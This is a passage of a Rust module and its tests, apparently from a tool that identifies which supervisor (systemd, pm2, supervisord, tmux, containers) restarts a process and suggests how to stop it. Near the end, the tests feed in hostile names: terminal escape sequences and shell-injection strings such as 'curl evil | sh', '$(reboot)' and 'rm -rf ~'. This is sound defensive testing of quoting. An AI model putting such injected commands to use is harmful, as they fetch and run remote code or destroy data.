            Some(note) => format!("{} stops it for good ({note})", self.shown()),
            None => format!("{} stops it for good", self.shown()),
        }
    }
}

/// `supervisord 9823`, or `pm2 (PM2 v5.3.0: God 4700)` for an ancestor whose name is not the
/// program's: named by what it shows, its real name and pid in sight.
fn named(tool: &Tool, pid: u32, name: &OsText) -> String {
    let who = process_label(name, pid);
    if name.raw().starts_with(tool.program()) {
        who
    } else {
        format!("{} ({who})", tool.program())
    }
}

fn unit_label(unit: &Unit) -> String {
    let kind = match (unit.is_scope(), unit.is_transient()) {
        (true, _) => "scope",
        (false, true) => "transient unit",
        (false, false) => "unit",
    };
    match unit.manager {
        Manager::System => format!("systemd {kind} {}", unit.name),
        Manager::User(uid) => format!("systemd user {kind} {} (uid {uid})", unit.name),
    }
}

fn short_id(id: &str) -> &str {
    id.get(..12).unwrap_or(id)
}

/// Signals systemd counts as a clean exit of a service's main process.
fn is_clean(signal: Signal) -> bool {
    matches!(signal, Signal::Term | Signal::Int | Signal::Hup)
}

fn unit_after(unit: &Unit, answer: Option<&UnitAnswer>, signal: Signal, pid: u32) -> Effect {
    let effect = |restarts, text: String| Effect { restarts, text };
    let unknown = |why: String| {
        effect(
            Restarts::Unknown,
            format!("whether it will be restarted is unknown: {why}"),
        )
    };
    if unit.is_scope() {
        return effect(
            Restarts::No,
            "it will not be restarted: systemd never restarts the processes of a scope".into(),
        );
    }
    let state = match answer {
        None => return unknown("systemd was not asked about the unit".into()),
        Some(UnitAnswer::NotFound) => {
            return unknown(format!("systemd does not know the unit {}", unit.name));
        }
        Some(UnitAnswer::Unknown(why)) => {
            return unknown(format!("its restart policy could not be read: {why}"));
        }
        Some(UnitAnswer::Known(state)) => state,
    };
    let policy = format!("Restart={}", state.restart.as_str());
    match state.main_pid {
        Some(main) if main == pid => {}
        Some(main) => {
            return unknown(format!(
                "it is not the unit's main process (pid {main} is), and systemd restarts the unit ({policy}) only when that one exits"
            ));
        }
        None => {
            return effect(
                Restarts::No,
                format!(
                    "it will not be restarted: systemd names no main process of the unit, so no exit restarts it ({policy})"
                ),
            );
        }
    }
    let name = signal.name();
    let (restarts, why) = match state.restart {
        Restart::Always => (true, format!("{policy} starts it again after any exit")),
        Restart::No => (false, policy.clone()),
        Restart::OnSuccess if is_clean(signal) => (
            true,
            format!("systemd counts {name} as a clean exit, and {policy} restarts after one"),
        ),
        Restart::OnSuccess => (
            false,
            format!("{name} is not a clean exit, and {policy} restarts only after one"),
        ),
        Restart::OnFailure | Restart::OnAbnormal | Restart::OnAbort if signal == Signal::Kill => (
            true,
            format!("systemd counts {name} as an unclean exit, and {policy} restarts after one"),
        ),
        Restart::OnFailure => (
            false,
            format!(
                "systemd counts {name} as a clean exit, and {policy} restarts only after a failure (SIGKILL would be one, as would an error status it exits with)"
            ),
        ),
        Restart::OnAbnormal | Restart::OnAbort => (
            false,
            format!(
                "systemd counts {name} as a clean exit, and {policy} restarts only after an unclean signal (SIGKILL would be one)"
            ),
        ),
        Restart::OnWatchdog => (
            false,
            format!("{policy} restarts only when the unit's watchdog times out"),
        ),
    };
    if restarts {
        effect(Restarts::Yes, format!("it will be restarted: {why}"))
    } else {
        effect(Restarts::No, format!("it will not be restarted: {why}"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Manager, UnitState};

    const ID: &str = "0f99e7bbe4febced82d7b90e15dd5aec23f10690043d6275e5349d63a130e477";

    /// An ancestor with the arguments it shows (one string with spaces is a rewritten title).
    fn ancestor(pid: u32, name: &str, argv: &[&str]) -> Ancestor {
        Ancestor {
            pid,
            name: name.into(),
            argv: Readable::Value(argv.iter().map(|a| OsText::from(*a)).collect()),
        }
    }

    fn init() -> Ancestor {
        ancestor(1, "systemd", &["/sbin/init"])
    }

    struct Case {
        pid: u32,
        ancestry: Vec<Ancestor>,
        cgroup: Readable<OsText>,
        unit: Option<UnitAnswer>,
        engine: EngineView,
    }

    impl Case {
        fn new(cgroup: &str, ancestry: Vec<Ancestor>) -> Self {
            Self {
                pid: 4812,
                ancestry,
                cgroup: Readable::Value(cgroup.into()),
                unit: None,
                engine: EngineView::Absent,
            }
        }

        fn unit(mut self, restart: Restart, main_pid: Option<u32>) -> Self {
            self.unit = Some(UnitAnswer::Known(UnitState { restart, main_pid }));
            self
        }

        fn supervision(&self) -> Supervision {
            Supervision::of(&Behind {
                pid: self.pid,
                ancestry: &self.ancestry,
                cgroup: &self.cgroup,
                unit: self.unit.as_ref(),
                engine: &self.engine,
            })
        }
    }

    fn redis(restart: Restart) -> Supervision {
        Case::new("0::/system.slice/redis-server.service\n", vec![init()])
            .unit(restart, Some(4812))
            .supervision()
    }

    #[test]
    fn a_system_service_names_its_unit_its_policy_and_the_stop_for_good() {
        let s = redis(Restart::Always);
        assert_eq!(
            s.sentence(Signal::Term),
            "managed by systemd unit redis-server.service (Restart=always): after SIGTERM it will be restarted: Restart=always starts it again after any exit; `systemctl stop redis-server.service` stops it for good"
        );
        assert_eq!(
            s.compact(Signal::Term),
            "yes, systemd unit redis-server.service"
        );
        assert_eq!(
            s.chain("redis-server 4812").unwrap(),
            "systemd unit redis-server.service > redis-server 4812"
        );
        assert_eq!(s.cgroup_note(), None, "the unit says it");
        let summary = s.summary(Signal::Kill).unwrap();
        assert_eq!(summary.kind, "systemd_unit");
        assert_eq!(summary.name.as_deref(), Some("redis-server.service"));
        assert_eq!(summary.restarts, Some(true));
        assert_eq!(summary.restart_policy, Some("always"));
        assert_eq!(
            summary.stop_for_good.as_deref(),
            Some("systemctl stop redis-server.service")
        );
    }

    /// systemd's rules: SIGTERM, SIGINT and SIGHUP are clean exits, SIGKILL is not.
    #[test]
    fn each_policy_against_each_signal() {
        use Restarts::{No, Yes};
        let table = [
            (Restart::No, [No, No, No, No]),
            (Restart::Always, [Yes, Yes, Yes, Yes]),
            (Restart::OnSuccess, [Yes, Yes, Yes, No]),
            (Restart::OnFailure, [No, No, No, Yes]),
            (Restart::OnAbnormal, [No, No, No, Yes]),
            (Restart::OnAbort, [No, No, No, Yes]),
            (Restart::OnWatchdog, [No, No, No, No]),
        ];
        for (restart, expected) in table {
            let s = redis(restart);
            for (signal, want) in [Signal::Term, Signal::Int, Signal::Hup, Signal::Kill]
                .into_iter()
                .zip(expected)
            {
                let effect = s.after(signal);
                assert_eq!(
                    effect.restarts, want,
                    "{restart:?} x {signal}: {}",
                    effect.text
                );
                assert!(
                    effect
                        .text
                        .contains(&format!("Restart={}", restart.as_str())),
                    "{}",
                    effect.text
                );
            }
        }
        assert_eq!(
            redis(Restart::OnFailure).after(Signal::Term).text,
            "it will not be restarted: systemd counts SIGTERM as a clean exit, and Restart=on-failure restarts only after a failure (SIGKILL would be one, as would an error status it exits with)"
        );
        assert_eq!(
            redis(Restart::OnFailure).after(Signal::Kill).text,
            "it will be restarted: systemd counts SIGKILL as an unclean exit, and Restart=on-failure restarts after one"
        );
    }

    #[test]
    fn a_policy_not_known_is_said_to_be_unknown_never_guessed() {
        let case = |unit: Option<UnitAnswer>| {
            let mut case = Case::new("0::/system.slice/web.service\n", vec![init()]);
            case.unit = unit;
            case.supervision().after(Signal::Term)
        };
        let not_asked = case(None);
        assert_eq!(not_asked.restarts, Restarts::Unknown);
        let hung = case(Some(UnitAnswer::Unknown(
            "systemctl did not answer within 500 ms".into(),
        )));
        assert_eq!(hung.restarts, Restarts::Unknown);
        assert!(
            hung.text
                .ends_with("systemctl did not answer within 500 ms"),
            "{}",
            hung.text
        );
        let gone = case(Some(UnitAnswer::NotFound));
        assert!(
            gone.text
                .contains("systemd does not know the unit web.service")
        );
        // A worker of the service: only the main process's exit restarts anything.
        let worker = Case::new("0::/system.slice/nginx.service\n", vec![init()])
            .unit(Restart::Always, Some(900))
            .supervision()
            .after(Signal::Term);
        assert_eq!(worker.restarts, Restarts::Unknown);
        assert!(
            worker
                .text
                .contains("not the unit's main process (pid 900 is)"),
            "{}",
            worker.text
        );
        let no_main = Case::new("0::/system.slice/nginx.service\n", vec![init()])
            .unit(Restart::Always, None)
            .supervision()
            .after(Signal::Kill);
        assert_eq!(no_main.restarts, Restarts::No);
    }

    #[test]
    fn a_user_unit_behind_tmux_and_npm_the_terminal_decides() {
        let s = Case::new(
            "0::/user.slice/user-1000.slice/user@1000.service/app.slice/dev.service\n",
            vec![
                ancestor(4800, "npm run dev", &["npm run dev"]),
                ancestor(1201, "zsh", &["-zsh"]),
                ancestor(900, "tmux: server", &["tmux", "new-session", "-s", "shop"]),
                ancestor(880, "systemd", &["/lib/systemd/systemd", "--user"]),
                init(),
            ],
        )
        .unit(Restart::Always, Some(900))
        .supervision();
        assert_eq!(
            s.chain("node 4812").unwrap(),
            "systemd user unit dev.service (uid 1000) > tmux: server 900 > npm run dev 4800 > node 4812"
        );
        assert_eq!(
            s.headline(),
            "run in tmux (tmux: server 900, started with session shop)"
        );
        assert_eq!(
            s.after(Signal::Term).text,
            "it will not be restarted: tmux does not restart it; the shell in its window stays"
        );
        assert_eq!(s.for_good(), None);
        let summary = s.summary(Signal::Term).unwrap();
        assert_eq!((summary.kind, summary.restarts), ("tmux", Some(false)));
        // `tmux new -d 'python3 -m http.server'`: no shell in the window to stay behind.
        let direct = Case::new(
            "0::/\n",
            vec![
                ancestor(900, "tmux: server", &["tmux", "new-session", "-d"]),
                init(),
            ],
        )
        .supervision();
        assert_eq!(
            direct.after(Signal::Term).text,
            "it will not be restarted: tmux does not restart it; it is its window's own command, so the window closes with it (unless remain-on-exit keeps it)"
        );
        // The unit itself is stopped as user 1000's.
        let unit = Case::new(
            "0::/user.slice/user-1000.slice/user@1000.service/app.slice/vite.service\n",
            vec![init()],
        )
        .unit(Restart::OnFailure, Some(4812))
        .supervision();
        // Pasted as root, `systemctl --user` would stop root's own vite.service.
        assert_eq!(
            unit.for_good().unwrap(),
            "`systemctl --user stop vite.service` (as uid 1000; as any other user, root included: `systemctl --user --machine=1000@.host stop vite.service`)"
        );
        assert_eq!(
            unit.summary(Signal::Term).unwrap().kind,
            "systemd_user_unit"
        );
    }

    #[test]
    fn a_script_runner_exits_with_it_so_what_stands_behind_it_decides() {
        let npm = ancestor(4800, "npm run start", &["npm run start"]);
        let in_unit = Case::new("0::/system.slice/shop.service\n", vec![npm.clone(), init()])
            .unit(Restart::Always, Some(4800))
            .supervision();
        assert!(
            in_unit
                .headline()
                .starts_with("managed by systemd unit shop.service")
        );
        assert_eq!(in_unit.after(Signal::Term).restarts, Restarts::Unknown);
        let alone = Case::new(
            "0::/user.slice/user-1000.slice/session-2.scope\n",
            vec![npm, ancestor(1201, "bash", &["-bash"])],
        )
        .supervision();
        assert_eq!(alone.headline(), "run by npm run start 4800");
        assert_eq!(
            alone.after(Signal::Term).text,
            "it will not be restarted: npm run start exits with it, and nothing stands behind that"
        );
        assert_eq!(
            alone.chain("node 4812").unwrap(),
            "login session session-2.scope > npm run start 4800 > node 4812"
        );
    }

    #[test]
    fn each_supervisor_and_watcher_by_its_name_and_arguments() {
        let one = |a: Ancestor| Case::new("0::/\n", vec![a, init()]).supervision();
        let pm2 = one(ancestor(
            4700,
            "PM2 v5.3.0: God",
            &["PM2 v5.3.0: God Daemon (/home/ana/.pm2)"],
        ));
        assert_eq!(pm2.headline(), "managed by pm2 (PM2 v5.3.0: God 4700)");
        assert_eq!(pm2.after(Signal::Term).restarts, Restarts::Yes);
        assert_eq!(
            pm2.for_good().unwrap(),
            "`pm2 stop NAME` (`pm2 list` shows which app has pid 4812)"
        );

        let nodemon = one(ancestor(
            4700,
            "node",
            &["node", "/usr/local/bin/nodemon", "server.js"],
        ));
        assert_eq!(nodemon.headline(), "watched by nodemon (node 4700)");
        assert_eq!(nodemon.after(Signal::Kill).restarts, Restarts::OnFileChange);
        assert_eq!(
            nodemon.for_good().unwrap(),
            "`kill 4700` (nodemon itself; or Ctrl-C in its terminal)"
        );

        let supervisord = one(ancestor(
            9823,
            "supervisord",
            &[
                "/usr/bin/python3",
                "/usr/bin/supervisord",
                "-n",
                "-c",
                "/etc/sv.conf",
            ],
        ));
        assert_eq!(
            supervisord.headline(),
            "managed by supervisord 9823, config /etc/sv.conf"
        );
        assert_eq!(supervisord.after(Signal::Term).restarts, Restarts::Yes);
        assert_eq!(
            supervisord.for_good().unwrap(),
            "`supervisorctl -c /etc/sv.conf stop PROGRAM` (`supervisorctl -c /etc/sv.conf status` shows which program has pid 4812)"
        );

        let runit = one(ancestor(700, "runsv", &["runsv", "web"]));
        assert_eq!(runit.headline(), "managed by runit service web (runsv 700)");
        assert_eq!(runit.for_good().unwrap(), "`sv down web`");
        assert_eq!(runit.after(Signal::Kill).restarts, Restarts::Yes);

        let s6 = one(ancestor(701, "s6-supervise", &["s6-supervise", "web"]));
        assert_eq!(
            s6.headline(),
            "managed by s6 service web (s6-supervise 701)"
        );
        assert!(s6.for_good().unwrap().starts_with("`s6-svc -d DIR`"));

        let cargo = one(ancestor(
            702,
            "cargo-watch",
            &["/home/ana/.cargo/bin/cargo-watch", "watch", "-x", "run"],
        ));
        assert_eq!(cargo.headline(), "watched by cargo watch (cargo-watch 702)");
        let cargo = one(ancestor(702, "cargo", &["cargo", "watch", "-x", "run"]));
        assert_eq!(cargo.summary(Signal::Term).unwrap().kind, "cargo_watch");
        let watchexec = one(ancestor(
            703,
            "watchexec",
            &["watchexec", "-r", "--", "node", "a.js"],
        ));
        assert_eq!(
            watchexec.after(Signal::Term).restarts,
            Restarts::OnFileChange
        );

        let yarn = one(ancestor(
            704,
            "node",
            &["node", "/usr/share/yarn/bin/yarn.js", "dev", "--host"],
        ));
        assert_eq!(yarn.headline(), "run by yarn dev (node 704)");
        let pnpm = one(ancestor(
            705,
            "node",
            &[
                "node",
                "/usr/lib/node_modules/pnpm/bin/pnpm.cjs",
                "run",
                "build",
            ],
        ));
        assert_eq!(pnpm.summary(Signal::Term).unwrap().kind, "pnpm");
        let npx = one(ancestor(706, "npm exec vite", &["npm exec vite"]));
        assert_eq!(npx.headline(), "run by npm exec vite 706");

        let screen = one(ancestor(707, "screen", &["SCREEN", "-S", "dev"]));
        assert_eq!(screen.headline(), "run in screen session dev (screen 707)");
        assert_eq!(screen.after(Signal::Term).restarts, Restarts::No);
    }

    #[test]
    fn the_nearest_supervisor_that_restarts_is_the_headline() {
        let s = Case::new(
            "0::/system.slice/supervisor.service\n",
            vec![
                ancestor(9840, "sh", &["/bin/sh", "-c", "python3 app.py"]),
                ancestor(
                    9823,
                    "supervisord",
                    &["/usr/bin/python3", "/usr/bin/supervisord", "-n"],
                ),
                ancestor(900, "tmux: server", &["tmux"]),
                init(),
            ],
        )
        .unit(Restart::No, Some(9823))
        .supervision();
        assert_eq!(s.headline(), "managed by supervisord 9823");
        assert_eq!(
            s.chain("python3 4812").unwrap(),
            "systemd unit supervisor.service > tmux: server 900 > supervisord 9823 > python3 4812"
        );
        assert_eq!(
            s.restarted_by().unwrap(),
            "supervisord 9823 restarted it; `supervisorctl stop PROGRAM` stops it for good; `supervisorctl status` shows which program has pid 4812"
        );
    }

    #[test]
    fn containers_are_named_from_the_engines_listing_when_it_has_them() {
        let web = Arc::new(Container {
            id: ID.into(),
            name: "web".into(),
            image: "nginx:1.27".into(),
            compose: None,
            addresses: Vec::new(),
            ports: Vec::new(),
        });
        let mut case = Case::new(
            &format!("0::/system.slice/docker-{ID}.scope\n"),
            vec![init()],
        );
        case.engine = EngineView::Listed {
            endpoint: "/var/run/docker.sock".into(),
            containers: vec![web],
        };
        let s = case.supervision();
        assert_eq!(
            s.headline(),
            "in docker container web (nginx:1.27), id 0f99e7bbe4fe"
        );
        assert_eq!(s.for_good().unwrap(), "`docker stop web`");
        assert_eq!(s.after(Signal::Term).restarts, Restarts::Unknown);
        assert_eq!(
            s.summary(Signal::Term).unwrap().name.as_deref(),
            Some("web")
        );

        let mut unlisted = Case::new(&format!("0::/docker/{ID}\n"), vec![init()]);
        unlisted.engine = EngineView::Unreachable {
            endpoint: "/var/run/docker.sock".into(),
            reason: "permission denied".into(),
        };
        let s = unlisted.supervision();
        assert_eq!(s.headline(), "in docker container 0f99e7bbe4fe");
        assert_eq!(s.for_good().unwrap(), "`docker stop 0f99e7bbe4fe`");
        assert!(s.after(Signal::Term).text.ends_with(
            "(the engine (/var/run/docker.sock) could not be asked: permission denied)"
        ));

        let podman = Case::new(
            &format!("0::/machine.slice/libpod-{ID}.scope/container\n"),
            vec![],
        )
        .supervision();
        assert_eq!(podman.for_good().unwrap(), "`podman stop 0f99e7bbe4fe`");
        let kube = Case::new(
            &format!("0::/kubepods.slice/kubepods-burstable.slice/cri-containerd-{ID}.scope\n"),
            vec![],
        )
        .supervision();
        assert_eq!(kube.headline(), "in containerd container 0f99e7bbe4fe");
        assert!(kube.after(Signal::Kill).text.contains("kubelet"));
        // A supervisor inside the container is nearer, and decides.
        let inside = Case::new(
            &format!("0::/docker/{ID}\n"),
            vec![
                ancestor(7, "supervisord", &["supervisord"]),
                ancestor(1, "tini", &["tini"]),
            ],
        )
        .supervision();
        assert_eq!(inside.headline(), "managed by supervisord 7");
    }

    /// A container of a user's own rootless engine is not the system engine's container of
    /// the same id, and `docker stop` as root would stop that one: no command to paste.
    #[test]
    fn a_rootless_container_is_never_the_system_engines_namesake() {
        let victim = Arc::new(Container {
            id: ID.into(),
            name: "payments-db".into(),
            image: "postgres:16".into(),
            compose: None,
            addresses: Vec::new(),
            ports: Vec::new(),
        });
        let mut case = Case::new(
            &format!(
                "0::/user.slice/user-1000.slice/user@1000.service/app.slice/docker-{ID}.scope\n"
            ),
            vec![init()],
        );
        case.engine = EngineView::Listed {
            endpoint: "/var/run/docker.sock".into(),
            containers: vec![victim],
        };
        let s = case.supervision();
        assert_eq!(
            s.headline(),
            "in rootless docker container 0f99e7bbe4fe (uid 1000)"
        );
        let summary = s.summary(Signal::Term).unwrap();
        assert_eq!(summary.name.as_deref(), Some(ID));
        assert!(!s.sentence(Signal::Term).contains("payments-db"));
        let way = summary.stop_for_good.unwrap();
        assert_eq!(way, "docker stop 0f99e7bbe4fe run as uid 1000");
        assert!(
            !s.for_good().unwrap().starts_with('`'),
            "not a command to paste"
        );

        // Named like a container deeper inside a delegated subtree: no container at all.
        let impostor = Case::new(
            &format!(
                "0::/user.slice/user-1000.slice/user@1000.service/app.slice/x.service/docker-{ID}.scope\n"
            ),
            vec![init()],
        )
        .supervision();
        assert!(!impostor.sentence(Signal::Term).contains("docker"));
    }

    #[test]
    fn sessions_transient_units_and_scopes() {
        let session = Case::new(
            "0::/user.slice/user-1000.slice/session-3.scope\n",
            vec![ancestor(1201, "bash", &["-bash"]), init()],
        )
        .supervision();
        assert_eq!(
            session.headline(),
            "no service manager: it runs in login session session-3.scope, started by hand; no container, no known supervisor among its ancestors"
        );
        assert_eq!(session.summary(Signal::Term), None);
        let run = Case::new("0::/system.slice/run-u12.service\n", vec![init()])
            .unit(Restart::No, Some(4812))
            .supervision();
        assert_eq!(
            run.headline(),
            "managed by systemd transient unit run-u12.service (Restart=no)"
        );
        assert_eq!(run.after(Signal::Term).restarts, Restarts::No);
        let scope = Case::new(
            "0::/user.slice/user-1000.slice/user@1000.service/app.slice/run-p4242-i4543.scope\n",
            vec![init()],
        )
        .supervision();
        assert_eq!(
            scope.headline(),
            "managed by systemd user scope run-p4242-i4543.scope (uid 1000)"
        );
        assert_eq!(
            scope.after(Signal::Kill).text,
            "it will not be restarted: systemd never restarts the processes of a scope"
        );
        assert_eq!(scope.for_good(), None);
    }

    /// What this kind of machine shows: the root of systemd's hierarchy, v1 controllers elsewhere.
    #[test]
    fn nothing_behind_it_is_said_so_with_the_cgroup() {
        let s = Case::new(
            "9:name=systemd:/\n4:memory:/process_api/b6e30eab794bbd14b56a2f49cc876285\n0::/\n",
            vec![ancestor(200, "bash", &["bash"]), init()],
        )
        .supervision();
        assert_eq!(
            s.headline(),
            "no service manager (cgroup /), no container, no known supervisor among its ancestors"
        );
        assert_eq!(s.after(Signal::Term).restarts, Restarts::No);
        assert_eq!(s.cgroup_note().unwrap(), "/: no systemd unit, no container");
        assert_eq!(s.chain("node 4812"), None);
        assert_eq!(s.summary(Signal::Term), None, "JSON says null");
        assert_eq!(s.restarted_by(), None);
    }

    #[test]
    fn an_unreadable_cgroup_is_unknown_not_nothing() {
        let mut case = Case::new("", vec![init()]);
        case.cgroup = Readable::Denied;
        let s = case.supervision();
        assert!(
            s.headline()
                .starts_with("unknown: its cgroup could not be read (hidden")
        );
        assert_eq!(s.after(Signal::Term).restarts, Restarts::Unknown);
        let summary = s.summary(Signal::Term).unwrap();
        assert_eq!((summary.kind, summary.restarts), ("unknown", None));
        case.cgroup = Readable::Missing;
        assert!(case.supervision().headline().contains("not available"));
        let garbled = Case::new("garbage", vec![]).supervision();
        assert!(
            garbled
                .cgroup_note()
                .unwrap()
                .starts_with("unreadable text")
        );
    }

    /// A process may call itself anything: loopwatch says what it calls itself, and its pid.
    #[test]
    fn a_hostile_name_is_reported_by_name_and_pid_and_prints_inert() {
        let impostor = Case::new(
            "0::/\n",
            vec![
                ancestor(6666, "PM2 v5: God Dae", &["PM2 v5: God Daemon"]),
                init(),
            ],
        )
        .supervision();
        assert_eq!(impostor.headline(), "managed by pm2 (PM2 v5: God Dae 6666)");
        assert!(impostor.restarted_by().unwrap().contains("6666"));

        let evil = "\u{1b}]0;pwn\u{7}\u{1b}[2J";
        let hostile = Case::new(
            "0::/system.slice/\u{1b}]0;pwn\u{7}.service\n",
            vec![
                ancestor(
                    66,
                    &format!("supervisord{evil}"),
                    &["supervisord", "-c", evil],
                ),
                ancestor(
                    67,
                    &format!("tmux{evil}"),
                    &["tmux", "-L", evil, "new", "-s", evil],
                ),
                init(),
            ],
        );
        let s = hostile.supervision();
        let texts = [
            s.headline(),
            s.sentence(Signal::Term),
            s.sentence(Signal::Kill),
            s.compact(Signal::Term),
            s.chain(&process_label(&OsText::from(evil), 4812)).unwrap(),
            s.for_good().unwrap(),
            s.restarted_by().unwrap(),
            s.summary(Signal::Term).unwrap().message,
        ];
        for text in texts {
            assert!(!text.chars().any(crate::model::is_unsafe), "{text:?}");
            assert!(text.contains("\\e"), "shown, not obeyed: {text}");
        }
        // The escape sequence in the cgroup path names no unit.
        let path = Case::new("0::/system.slice/\u{1b}]0;pwn\u{7}.service\n", vec![]).supervision();
        assert_eq!(
            path.cgroup_note().unwrap(),
            "/system.slice/\\e]0;pwn\\x07.service: no systemd unit, no container"
        );
        assert!(path.headline().starts_with("no service manager"));
    }

    /// A suggested command may be pasted into a shell: a name a process chose stays one word.
    #[test]
    fn names_in_a_suggested_command_are_one_shell_word() {
        let one = |argv: &[&str]| {
            Case::new("0::/\n", vec![ancestor(66, argv[0], argv), init()])
                .supervision()
                .summary(Signal::Term)
                .unwrap()
                .stop_for_good
                .unwrap()
        };
        assert_eq!(
            one(&["supervisord", "-c", "/tmp/x; curl evil | sh"]),
            "supervisorctl -c '/tmp/x; curl evil | sh' stop PROGRAM"
        );
        assert_eq!(
            one(&["runsv", "it's $(reboot)"]),
            "sv down 'it'\\''s $(reboot)'"
        );
        assert_eq!(one(&["runsv", "web-1.2"]), "sv down web-1.2");
        // Quoted for bash, `x\'` would let fish out of the quotes: the name is not pasted.
        let fish = ["supervisord", "-c", "/tmp/x\\'; rm -rf ~ #"];
        assert_eq!(one(&fish), "supervisorctl -c CONFIG stop PROGRAM");
        let s = Case::new("0::/\n", vec![ancestor(66, "supervisord", &fish), init()]).supervision();
        assert!(
            s.for_good().unwrap().contains(
                "CONFIG: the file supervisord 66 was started with, /tmp/x\\'; rm -rf ~ #, which no quoting keeps one word in every shell"
            ),
            "{}",
            s.for_good().unwrap()
        );
        assert_eq!(one(&["runsv", "a\\'b"]), "sv down SERVICE");
        assert_eq!(one(&["runsv", "a\\b"]), "sv down 'a\\b'");
        let escaped = Case::new("0::/system.slice/foo\\x2dbar.service\n", vec![init()])
            .unit(Restart::Always, Some(4812))
            .supervision();
        assert_eq!(
            escaped.for_good().unwrap(),
            "`systemctl stop 'foo\\x2dbar.service'`"
        );
    }

    /// An ancestor that exited while it was read keeps the name and pid that were read.
    #[test]
    fn an_ancestor_whose_arguments_could_not_be_read_is_named_by_its_name() {
        let mut gone = ancestor(9823, "supervisord", &[]);
        gone.argv = Readable::Missing;
        let s = Case::new("0::/\n", vec![gone, init()]).supervision();
        assert_eq!(s.headline(), "managed by supervisord 9823");
        let mut node = ancestor(4700, "node", &[]);
        node.argv = Readable::Denied;
        let s = Case::new("0::/\n", vec![node, init()]).supervision();
        assert_eq!(
            s.chain("x 1"),
            None,
            "a node whose arguments are hidden is just node"
        );
    }

    #[test]
    fn a_provenance_names_the_restarter_without_asking_systemd() {
        let provenance = Provenance {
            ancestry: vec![init()],
            cgroup: Readable::Value("0::/system.slice/redis-server.service\n".into()),
        };
        let s = Supervision::of(&Behind::provenance(5012, &provenance, &EngineView::Absent));
        assert_eq!(
            s.restarted_by().unwrap(),
            "systemd unit redis-server.service restarted it; `systemctl stop redis-server.service` stops it for good"
        );
        let _ = Manager::System;
    }

    /// A program loopwatch does not know, between the process and a supervisor it does, may be
    /// what restarted it: then only the parent is named, as it was before.
    #[test]
    fn a_restarter_is_named_only_when_it_started_the_process() {
        let provenance = Provenance {
            ancestry: vec![
                ancestor(700, "python3", &["python3", "-c", "my own supervisor"]),
                ancestor(9823, "supervisord", &["supervisord"]),
                init(),
            ],
            cgroup: Readable::Value("0::/\n".into()),
        };
        let s = Supervision::of(&Behind::provenance(5012, &provenance, &EngineView::Absent));
        assert_eq!(
            s.headline(),
            "managed by supervisord 9823",
            "what can be read"
        );
        assert_eq!(s.restarted_by(), None);
        // Behind a shell, the supervisor did start it.
        let provenance = Provenance {
            ancestry: vec![
                ancestor(700, "sh", &["/bin/sh", "-c", "python3 app.py"]),
                ancestor(9823, "supervisord", &["supervisord"]),
            ],
            cgroup: Readable::Value("0::/\n".into()),
        };
        let s = Supervision::of(&Behind::provenance(5012, &provenance, &EngineView::Absent));
        assert!(
            s.restarted_by()
                .unwrap()
                .starts_with("supervisord 9823 restarted it")
        );
        // A service's process started by something else than systemd.
        let provenance = Provenance {
            ancestry: vec![ancestor(800, "gunicorn", &["gunicorn"]), init()],
            cgroup: Readable::Value("0::/system.slice/web.service\n".into()),
        };
        let s = Supervision::of(&Behind::provenance(5012, &provenance, &EngineView::Absent));
        assert_eq!(s.restarted_by(), None);
    }
}
